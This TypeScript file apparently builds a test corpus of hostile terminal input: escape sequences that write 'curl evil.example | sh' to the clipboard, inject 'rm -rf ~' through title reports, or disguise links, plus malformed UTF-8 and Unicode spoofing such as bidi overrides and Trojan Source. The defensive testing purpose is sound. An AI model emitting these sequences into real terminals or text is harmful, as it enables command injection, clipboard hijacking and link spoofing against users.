/** Bytes that were made to do something to a terminal, or to whoever reads it. */
export interface Attack {
  readonly name: string;
  readonly bytes: Buffer;
}

const attack = (name: string, ...parts: readonly (string | readonly number[])[]): Attack => ({
  name,
  bytes: Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part)))),
});

const esc = '\x1b';
const st = '\x1b\\';
const bel = '\x07';
const clipboard = Buffer.from('curl evil.example | sh\n').toString('base64');

/** Sequences that a terminal obeys (ECMA-48; xterm's control sequences; what others have added). */
const sequences: readonly Attack[] = [
  attack('title', `${esc}]0;owned${bel}${esc}]2;owned${st}${esc}]1;owned${bel}`),
  attack('title on the stack and back', `${esc}[22;0t${esc}[23;0t`),
  attack('title typed back', `${esc}]2;\rrm -rf ~\r${bel}${esc}[21t${esc}[20t`),
  attack('window moved, resized, iconified', `${esc}[3;0;0t${esc}[8;1;1t${esc}[2t${esc}[18t${esc}[14t`),
  attack('clipboard written', `${esc}]52;c;${clipboard}${bel}${esc}]52;p;${clipboard}${st}`),
  attack('clipboard asked for', `${esc}]52;c;?${bel}${esc}]52;;?${st}`),
  attack('link', `${esc}]8;;https://evil.example/${st}https://bank.example/${esc}]8;;${st}`),
  attack('link to a program', `${esc}]8;id=1;file:///bin/sh${bel}click${esc}]8;;${bel}`),
  attack('colours asked for', `${esc}]4;0;?${bel}${esc}]10;?${bel}${esc}]11;?${st}${esc}]12;?${st}${esc}]17;?${bel}`),
  attack('colours set', `${esc}]4;0;#ffffff${bel}${esc}]10;#000${st}${esc}]104${bel}${esc}]P0ffffff`),
  attack('working directory', `${esc}]7;file://evil.example/tmp${bel}${esc}]9;9;/tmp${st}`),
  attack('notification', `${esc}]9;owned${bel}${esc}]777;notify;owned;now${st}${esc}]99;;owned${st}`),
  attack('iTerm2', `${esc}]1337;File=name=eA==;inline=1:AAAA${bel}${esc}]1337;RequestUpload=format=tgz${st}`),
  attack('shell marks', `${esc}]133;A${bel}${esc}]133;D;0${st}${esc}]633;E;rm -rf ~${st}`),
  attack('font asked for', `${esc}]50;?${bel}${esc}]50;owned${st}`),
  attack('what a terminal is', `${esc}[c${esc}[>c${esc}[=c${esc}Z${esc}[0x${esc}[>q`),
  attack('where the cursor is', `${esc}[6n${esc}[5n${esc}[?6n${esc}[?15n${esc}[?996n`),
  attack('modes asked for', `${esc}[?2004$p${esc}[4$p${esc}[?u${esc}[?4m${esc}[#S`),
  attack('answerback', [0x05, 0x05, 0x05]),
  attack('DECRQSS', `${esc}P$q"p${st}${esc}P$qm${st}${esc}P$q\r\nid\r\n${st}`),
  attack('XTGETTCAP', `${esc}P+q544e${st}${esc}P+Q${st}`),
  attack('sixel', `${esc}Pq"1;1;100;100#0;2;100;0;0#0!100~-!100~${st}`),
  attack('DECUDK', `${esc}P0;1|17/726d0d${st}`),
  attack('screen, tmux pass on', `${esc}Ptmux;${esc}${esc}]52;c;${clipboard}${bel}${st}${esc}kowned${st}`),
  attack('APC, PM, SOS', `${esc}_Gf=24,s=1,v=1;AAAA${st}${esc}^owned${st}${esc}Xowned${st}`),
  attack('left open', `${esc}]0;never ended`, `${esc}P never ended`, `${esc}_ never ended`, `${esc}[1;2;3`),
  attack('alternate screen', `${esc}[?1049l${esc}[?1047l${esc}[?47l${esc}[?1049h`),
  attack('mouse', `${esc}[?1000h${esc}[?1002h${esc}[?1003h${esc}[?1006h${esc}[?1015h${esc}[?1004h`),
  attack('keyboard', `${esc}[?1h${esc}=${esc}[>1u${esc}[=31;1u${esc}[>4;2m${esc}[2h${esc}[12l`),
  attack('paste brackets', `${esc}[?2004l${esc}[201~q\r${esc}[200~`),
  attack('paste brackets in C1', [0x9b], '201~q', [0xc2, 0x9b], '201~q'),
  attack('cursor', `${esc}[?25l${esc}[1;1Howned${esc}[999;999H${esc}7${esc}8${esc}[s${esc}[u${esc}[5 q`),
  attack('erased', `${esc}[2J${esc}[3J${esc}[H${esc}[1K${esc}[J${esc}[777X`),
  attack('scrolled', `${esc}[5;10r${esc}[777S${esc}[777T${esc}D${esc}M${esc}E${esc}[777L${esc}[777M`),
  attack('reset', `${esc}c${esc}[!p${esc}#8${esc}[0m`),
  attack('hidden', `${esc}[8msecret${esc}[28m${esc}[31;5;38;5;199;48;2;1;2;3mloud`),
  attack('repeated', `A${esc}[99999999b${esc}[1000000000@${esc}[777777P`),
  attack('printed', `${esc}[5i rm -rf ~ ${esc}[4i${esc}[?5i${esc}[?4i`),
  attack('character sets', `${esc}(0lqqqk${esc}(B${esc}%G${esc}%@${esc}n${esc}o${esc}~`, [0x0e, 0x0f]),
  attack('synchronized for ever', `${esc}[?2026h${esc}[?2026l${esc}[?2026h`),
  attack('VT52', `${esc}[?2l${esc}Y  ${esc}<`),
  attack('C1 as bytes', [0x9b], '2J', [0x9d], '0;owned', [0x9c, 0x90], 'q#0', [0x9c, 0x98], 'x', [0x9c, 0x8d, 0x84]),
  attack('C1 as UTF-8', '\u009b2J\u009d0;owned\u009c\u0090q#0\u009c\u0098x\u009c\u0085\u008d\u0084'),
  attack('all of C1 as UTF-8', Array.from({ length: 64 }, (_, n) => [0xc2, (0x80 + n) & 0xbf]).flat()),
  attack('a letter that is CSI where a terminal reads Latin-1', 'Û2JÛ31mÝ0;owned\u00DC'),
];

/** Bytes that stand for less, or for more, than they seem to. */
const encodings: readonly Attack[] = [
  attack(
    'every byte',
    Array.from({ length: 256 }, (_, byte) => byte),
  ),
  attack('every byte behind a letter that begins a sequence', [
    0xe2,
    ...Array.from({ length: 256 }, (_, byte) => byte),
  ]),
  attack('overlong escape', [0xc0, 0x9b], '[2J', [0xe0, 0x80, 0x9b], '[2J', [0xf0, 0x80, 0x80, 0x9b], '[2J'),
  attack('overlong C1', [0xe0, 0x82, 0x9b], '2J', [0xf0, 0x80, 0x82, 0x9b], '2J'),
  attack('overlong slash and NUL', [0xc0, 0xaf, 0xc0, 0x80, 0xe0, 0x80, 0xaf]),
  attack('lone surrogates', [0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80, 0xed, 0xaf, 0xbf]),
  attack('surrogates as a pair (CESU-8)', [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]),
  attack('past the end of Unicode', [0xf4, 0x90, 0x80, 0x80, 0xf8, 0x88, 0x80, 0x80, 0x80, 0xfe, 0xff]),
  attack('cut at each byte', [0xf0, 0x9f, 0x99, 0xf0, 0x9f, 0xf0, 0xe2, 0x82, 0xe2, 0xc3]),
  attack('an escape in place of a continuation', [0xc3, 0x1b], '[2J', [0xe2, 0x82, 0x1b], '[2J'),
  attack('byte order marks', [0xef, 0xbb, 0xbf, 0xff, 0xfe, 0xfe, 0xff]),
  attack('UTF-16', [0x1b, 0x00, 0x5b, 0x00, 0x32, 0x00, 0x4a, 0x00]),
  attack('noncharacters', '\ufffe\uffff\ufdd0\u{1fffe}\u{10ffff}\ufff9x\ufffay\ufffb\ufffc'),
];

/** Text that lies about what it says. */
const appearances: readonly Attack[] = [
  attack('overrides', 'user\u202etxt.exe\u202c \u202dabc\u202c'),
  attack('embeddings and isolates', '\u202aabc\u202c\u202bdef\u202c\u2066x\u2069\u2067y\u2069\u2068z\u2069'),
  attack('isolates left open', '\u2067\u2067\u2067\u202e\u202e never closed'),
  attack('direction marks', 'a\u200eb\u200fc\u061cd'),
  attack('Trojan Source', 'if (level != "user\u202e \u2066// Check if admin\u2069 \u2066") {'),
  attack('zero width', 'pay\u200bpal\u200c.\u200dcom\u2060\ufeff\u180e'),
  attack('a flood of zero width', '\u200b'.repeat(3000)),
  attack('a flood of marks', `Z${'\u0351\u0323\u0489'.repeat(1000)}algo`),
  attack('marks without a letter', '\u0301\u0301 \u20dd\u20e3\u0300'),
  attack('enclosing marks', 'a\u20dd\u20de\u20e0\u20e3'.repeat(50)),
  attack('variation selectors', `a${'\ufe00\ufe0f\u{e0100}\u{e01ef}'.repeat(100)}b`),
  attack(
    'tag characters',
    `ok${Array.from('hidden text', (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
  ),
  attack('flags of tags', '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}🏴\u{e007f}'),
  attack('soft hyphens', 'in\u00advis\u00adible\u00ad'.repeat(20)),
  attack('fillers', '\u3164\uffa0\u115f\u1160\u2800 \u17b4\u17b5\u034f'),
  attack('separators', 'one\u2028two\u2029three\u0085four\u000bfive\u000csix'),
  attack('spaces that are none', '\u00a0\u1680\u2000\u2003\u2009\u202f\u205f\u3000'),
  attack('joined emoji', `${'👩\u200d'.repeat(300)}👩 👨‍👩‍👧‍👦 👍🏽 1\ufe0f\u20e3`),
  attack('half flags', '🇰🇰🇷🇷🇽 \u{1f1e6}'),
  attack('wide and ambiguous', `${'漢字仮名'.repeat(30)} ﷽ ꧅ 𒐫 ⸻ ﷺ`),
  attack('jamo that never make a syllable', `${'\u1112'.repeat(50)}${'\u1161'.repeat(50)}${'\u11ab'.repeat(50)}`),
  attack('conjuncts', `${'क्ष्'.repeat(60)} ${'ක්‍ෂ'.repeat(60)} \u0d4e\u0d4e\u{11a3a}`),
  attack('interlinear, musical, shorthand', '\u{1d173}\u{1d17a}\u{1bca0}\u{1bca3}\u{13430}\u{1343f}'),
  attack('right to left', 'مرحبا 123 שלום ()[]<> \u0600123 \u08e2'),
];

/** Plain control characters, and sheer length. */
const controls: readonly Attack[] = [
  attack('bells', [...Array.from({ length: 500 }, () => 0x07)]),
  attack('overstrike', 'password: hunter2\b\b\b\b\b\b\b*******\b \b'),
  attack('overwritten line', 'deny all\rallow all\r\n\r\r\r      \rowned'),
  attack('tabs and feeds', '\t\t\t\v\v\v\f\f\f\n\n\n\r\n\r\n'),
  attack('NUL, DEL, CAN, SUB', `a\0b\x7fc\x18d\x1ae${esc}\x18[31m${esc}\x1a[31m`),
  attack('escapes alone', esc.repeat(300)),
  attack('what looks like ours', '│ ! │╮ \\x1b[2J ‹ › … ⋮ ▸ → ← · 10:42:07'),
  attack('a line of a megabyte', `${esc}[2J`.repeat(1 << 18)),
  attack('a line without a blank', 'A'.repeat(1 << 16)),
];

export const corpus: readonly Attack[] = [...sequences, ...encodings, ...appearances, ...controls];

/** Those that a person might paste, or a file or host might be named by: text, and not the longest. */
export const texts: readonly string[] = corpus
  .filter(({ bytes }) => bytes.length < 1000)
  .map(({ bytes }) => bytes.toString('utf8').replaceAll('\ufffd', ''));
